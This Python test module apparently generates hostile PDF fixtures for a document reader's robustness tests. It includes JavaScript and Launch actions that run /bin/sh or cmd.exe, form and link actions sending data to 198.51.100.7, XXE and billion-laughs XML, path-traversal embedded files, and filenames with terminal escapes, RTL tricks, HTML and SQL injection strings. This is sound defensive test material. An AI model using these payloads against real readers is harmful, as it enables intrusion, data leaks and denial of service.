"""Hostile PDFs: actions, embedded files, references outside, damage, and names that deceive."""

import zlib
from collections.abc import Iterator
from functools import partial
from pathlib import Path

from tests.hostile import Case
from tests.torture.reading import deep_tree, forms_of_forms, many_pages, one_page, pdf, stream

TEXT = b"BT /F 12 Tf 60 700 Td (The tenant keeps the boiler in repair.) Tj ET"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
TREE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
NAMES = {
    "escape codes in its name": "\x1b[2J\x1b[31mowned.pdf",
    "right to left in its name": "lease\u202efdp.exe.pdf",
    "line breaks in its name": "lease\nready.pdf",
    "a bell in its name": "lease\x07.pdf",
    "markup in its name": "<b onload=x>&amp;<img src='file:!!etc!passwd'>.pdf",
    "format signs in its name": "%s%n{0.__class__}{}.pdf",
    "a rich markup in its name": "[red]lease[!red][link=x].pdf",
    "a long name": "x" * 240 + ".pdf",
    "a name that is no UTF-8": "lease\udcff\udcfe.pdf",
    "a name like an option": "--library.pdf",
    "quotes in its name": "\"'; DROP TABLE documents;--.pdf",
}


def document(catalog: bytes = b"", page: bytes = b"", *more: bytes, text: bytes = TEXT) -> bytes:
    """A page of text; `more` objects are numbered from 6."""
    body = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
    body += b"/Resources<</Font<</F 5 0 R>>>>" + page + b">>"
    head = b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>"
    return pdf([head, TREE, body, stream(text), FONT, *more])


def _actions(marker: Path) -> Iterator[tuple[str, bytes]]:
    mark = str(marker).encode()
    script = b"app.launchURL('file://%s');this.saveAs('%s');" % (mark, mark)
    actions = {
        "JavaScript": b"<</S/JavaScript/JS(%s)>>" % script,
        "a long script": b"<</S/JavaScript/JS(while(1){})>>",
        "launch": b"<</S/Launch/F(/bin/sh)/Unix<</F(/bin/touch)/P(%s)>>>>" % mark,
        "launch on Windows": b"<</S/Launch/Win<</F(cmd.exe)/P(/c touch %s)>>>>" % mark,
        "a link to the network": b"<</S/URI/URI(http://198.51.100.7/?leak)>>",
        "a link to a file": b"<</S/URI/URI(file:///etc/passwd)>>",
        "a page elsewhere": b"<</S/GoToR/F(/etc/passwd)/D[0/Fit]>>",
        "a page on a share": b"<</S/GoToR/F(\\\\\\\\198.51.100.7\\\\s)/D[0/Fit]>>",
        "an embedded page": b"<</S/GoToE/F(../../x.pdf)/D[0/Fit]>>",
        "a form that is sent": b"<</S/SubmitForm/F(http://198.51.100.7/)/Flags 4>>",
        "data that are fetched": b"<</S/ImportData/F(/etc/passwd)>>",
        "sound": b"<</S/Sound/Sound 99 0 R>>",
        "actions in a circle": b"<</S/Named/N/NextPage/Next 6 0 R>>",
    }
    for name, action in actions.items():
        yield f"at its opening: {name}", document(b"/OpenAction 6 0 R", b"", action)
        link = b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A 6 0 R>>"
        opened = b"/AA<</O 6 0 R>>/Annots[7 0 R]"
        yield f"on its page: {name}", document(b"", opened, action, link)


def _files(marker: Path) -> Iterator[tuple[str, bytes]]:
    for name in ("../../../../evil.sh", "/tmp/evil.sh", "..\\\\..\\\\evil.exe", "C:evil.exe"):
        file = b"<</Type/Filespec/F(%s)/UF(%s)/EF<</F 7 0 R>>>>" % ((name.encode(),) * 2)
        held = stream(b"touch %s" % str(marker).encode(), b"/Type/EmbeddedFile")
        names = b"/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>"
        yield f"embedded: {name}", document(names, b"", file, held)
    outside = stream(b"", b"/F(/etc/passwd)")
    yield "contents in another file", document().replace(stream(TEXT), outside)
    picture = b"/Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/F(/etc/passwd)"
    drawn = b"/Resources<</XObject<</X 6 0 R>>>>"
    yield "a picture in another file", document(b"", drawn, stream(b"", picture), text=b"/X Do")
    reference = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(/etc/passwd)/Page 0>>"
    yield "a form of another file", document(b"", drawn, stream(b"", reference), text=b"/X Do")


def _forms(marker: Path) -> Iterator[tuple[str, bytes]]:
    entity = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    laughs = b"<!DOCTYPE x [<!ENTITY a0 'ha'>" + b"".join(
        b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12)
    ) + b"]><x>&a11;</x>"  # fmt: skip
    for name, xml in (("an outer entity", entity), ("a thousand million laughs", laughs)):
        yield f"XFA with {name}", document(b"/AcroForm<</XFA 6 0 R/Fields[]>>", b"", stream(xml))
        metadata = stream(xml, b"/Type/Metadata/Subtype/XML")
        yield f"metadata with {name}", document(b"/Metadata 6 0 R", b"", metadata)
    field = b"<</FT/Tx/T(f)/AA<</K<</S/JavaScript/JS(app.alert(1))>>>>/Kids[6 0 R]/Parent 6 0 R>>"
    yield "a field in a circle", document(b"/AcroForm<</Fields[6 0 R]>>", b"/Annots[6 0 R]", field)
    outline = b"<</Title(x)/First 6 0 R/Last 6 0 R/Next 6 0 R/Parent 6 0 R>>"
    yield "an outline in a circle", document(b"/Outlines 6 0 R", b"", outline)
    labels = b"<</Nums[0 <</S/D/P(\x1b[2J\x07)>>]>>"
    yield "labels with escape codes", document(b"/PageLabels 6 0 R", b"", labels)
    long_label = b"<</Nums[0 <</S/r/St 2000000000>>]>>"
    yield "a Roman label of 2,000,000,000", document(b"/PageLabels 6 0 R", b"", long_label)
    yield "labels in a circle", document(b"/PageLabels 6 0 R", b"", b"<</Kids[6 0 R 6 0 R]>>")
    codes = TEXT.replace(b"boiler", b"\\033[2J\\033]0;owned\\007\\000")
    yield "escape codes in its text", document(text=codes)
    title = b"<</Title(\x1b[2J<img src=x>)/Author(" + b"A" * 1_000_000 + b")>>"
    yield "a title of escape codes", document(b"", b"", title)


def _damage() -> Iterator[tuple[str, bytes]]:
    sound = document()
    yield "a table of contents elsewhere", sound.replace(b"startxref\n", b"startxref\n9999999999")
    yield "a negative table", sound.replace(b"startxref\n", b"startxref\n-1")
    yield "no table", sound[: sound.index(b"xref\n0")]
    yield "a table of 2**31 entries", sound.replace(b"xref\n0 6", b"xref\n0 2147483647")
    yield "tables in a circle", sound.replace(b"/Root", b"/Prev %d/Root" % sound.rindex(b"xref\n0"))
    yield "no root", sound.replace(b"/Root 1", b"/Root 99")
    yield "a root in itself", sound.replace(b"/Pages 2 0 R", b"/Pages 1 0 R")
    yield "a stream without end", sound.replace(b"endstream", b"")
    yield "a long stream", sound.replace(b"/Length %d" % len(TEXT), b"/Length 4294967295")
    yield "a length in a circle", sound.replace(b"/Length %d" % len(TEXT), b"/Length 4 0 R")
    filters = b"/Filter[" + b"/FlateDecode" * 1000 + b"]"
    yield "a thousand filters", one_page(stream(zlib.compress(TEXT), filters))
    yield "a filter that is none", one_page(stream(TEXT, b"/Filter/Evil"))
    yield (
        "a predictor of 2**31",
        one_page(
            stream(
                zlib.compress(TEXT),
                b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647>>",
            )
        ),
    )
    yield "JBIG2 of nonsense", one_page(stream(b"\xff" * 500, b"/Filter/JBIG2Decode"))
    yield "a count of -1", many_pages(2, -1)
    yield "a count of 2**40", many_pages(2, 1 << 40)
    yield "a deep tree", deep_tree(500)
    yield "a tree in a circle", deep_tree(3).replace(b"/Kids[4 0 R]", b"/Kids[2 0 R]")
    yield "forms of forms", forms_of_forms(5)
    yield (
        "encrypted in no way known",
        sound.replace(b"/Root", b"/Encrypt<</Filter/Evil/V 99>>/Root"),
    )
    yield "nested lists", one_page(stream(b"[" * 200_000))
    yield "nested maps", pdf([b"<</Type/Catalog/Pages " + b"<</A " * 50_000])
    yield "a wide box", one_page(stream(TEXT), b"0 0 1e38 1e38")
    yield "a box of no numbers", one_page(stream(TEXT), b"nan inf x y")
    yield "HTML with a PDF head", b"%PDF-1.7\n<html><script>alert(1)</script></html>"
    yield "a program with a PDF head", b"MZ" + bytes(500) + sound
    yield "a zip that is also a PDF", b"PK\x03\x04" + bytes(26) + sound


def pdfs(marker: Path) -> Iterator[Case]:
    """All hostile PDFs."""
    for group in (_actions(marker), _files(marker), _forms(marker), _damage()):
        for name, content in group:
            yield Case(name, partial(_written, "case.pdf", content))
    for name, file in NAMES.items():
        yield Case(name, partial(_written, file.replace("!", "-").replace("/", "-"), document()))


def _written(name: str, content: bytes, folder: Path) -> Path:
    (folder / name).write_bytes(content)
    return folder / name
